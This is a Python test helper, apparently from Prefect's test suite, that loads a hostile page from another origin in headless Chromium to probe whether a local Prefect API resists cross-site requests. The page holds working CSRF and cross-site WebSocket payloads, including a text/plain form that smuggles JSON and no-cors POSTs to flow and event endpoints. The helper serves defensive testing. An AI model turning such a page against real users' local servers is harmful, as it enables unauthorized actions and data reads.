"""A page of another site, in a real browser, that tries to use servers on this machine."""

import json
import shutil
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

CHROMIUM = shutil.which("chromium") or shutil.which("google-chrome")

# Every way that a page has of sending something, or of reading it. `seen` gets what the page could observe.
_PAGE = """<!doctype html><title>elsewhere</title><body><script>
const api = API, report = REPORT, seen = {}, json = name => JSON.stringify({name});
const say = (what, value) => { seen[what] = value };
const attempt = (what, promise) => promise.then(value => say(what, value), error => say(what, "refused"));
const read = (what, url, options) => attempt(what, fetch(url, options).then(answer => answer.text()));
const blind = (what, body, headers) =>
  attempt(what, fetch(`${api}/flows/`, {method: "POST", mode: "no-cors", body, headers}).then(answer => answer.type));
const element = (what, tag, values) => new Promise(done => {
  const made = document.createElement(tag);
  made.onload = () => { say(what, "loaded"); done() };
  made.onerror = () => { say(what, "refused"); done() };
  Object.assign(made, values);
  document.body.append(made);
});
const socket = (what, path, first) => new Promise(done => {
  const made = new WebSocket(api.replace("http", "ws") + path);
  made.onopen = () => { say(what, "open"); made.send(first); done() };
  made.onerror = () => { say(what, "refused"); done() };
});
const form = name => new Promise(done => {
  const frame = document.createElement("iframe");
  frame.name = name;
  document.body.append(frame);
  const made = document.createElement("form");
  Object.assign(made, {method: "post", action: `${api}/flows/`, enctype: "text/plain", target: name});
  const field = document.createElement("input");
  Object.assign(field, {name: `{"name": "${name}", "tags": ["`, value: `"]}`});
  made.append(field);
  document.body.append(made);
  frame.onload = () => { say(name, "sent"); done() };
  made.submit();
});
Promise.all([
  blind("untyped", new Blob([json("untyped")])),
  blind("text", json("text"), {"Content-Type": "text/plain"}),
  blind("beacon", new Blob([json("beacon")], {type: "text/plain"})),
  read("typed", `${api}/flows/`,
       {method: "POST", body: json("typed"), headers: {"Content-Type": "application/json"}}),
  read("version", `${api}/version`), read("report", report),
  element("picture", "img", {src: report.replace("report.html", "report/loss.png")}),
  element("script", "script", {src: `${api}/version`}),
  socket("events-in", "/events/in", EVENT), socket("events-out", "/events/out", "{}"),
  socket("logs-out", "/logs/out", "{}"), form("form"),
]).then(() => fetch("/seen", {method: "POST", body: JSON.stringify(seen)}));
</script>"""
EVENT = {
    "event": "foreign.event",
    "resource": {"prefect.resource.id": "foreign.page"},
    "occurred": "2026-01-01T00:00:00Z",
    "id": "5f3c1d52-7d2d-4a3d-9d7e-0d8a4a0e6f11",
}


def attack(host: str, api: str, report: str, profile: Path) -> dict[str, Any]:
    """Return what a page on `host` observes that tries to use Prefect's `api` and to read a `report`.

    host: any name; the browser takes it for this machine.
    """
    page = _PAGE.replace("API", json.dumps(api), 1).replace("REPORT", json.dumps(report), 1)
    page = page.replace("EVENT", json.dumps(json.dumps(EVENT)), 1)
    with _site(page) as (port, seen, is_over), browser(f"http://{host}:{port}/", profile):
        assert is_over.wait(60), "the page did not finish"
    return seen


@contextmanager
def browser(url: str, profile: Path) -> Iterator[None]:
    """Show a page in Chromium, which takes every name under `.example` for this machine."""
    assert CHROMIUM is not None
    options = ["--headless=new", "--no-sandbox", "--disable-gpu", "--remote-debugging-port=0", "--no-first-run"]
    rules = "--host-resolver-rules=MAP *.example 127.0.0.1"
    process = subprocess.Popen(
        [CHROMIUM, *options, rules, f"--user-data-dir={profile}", url],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        yield
    finally:
        process.terminate()
        process.wait(30)


@contextmanager
def _site(page: str) -> Iterator[tuple[int, dict[str, Any], threading.Event]]:
    seen: dict[str, Any] = {}
    is_over = threading.Event()

    class Site(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page.encode())

        def do_POST(self) -> None:
            seen.update(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self.send_response(204)
            self.end_headers()
            is_over.set()

        def log_message(self, *arguments: Any) -> None:
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Site) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield server.server_address[1], seen, is_over
        finally:
            server.shutdown()
            thread.join()
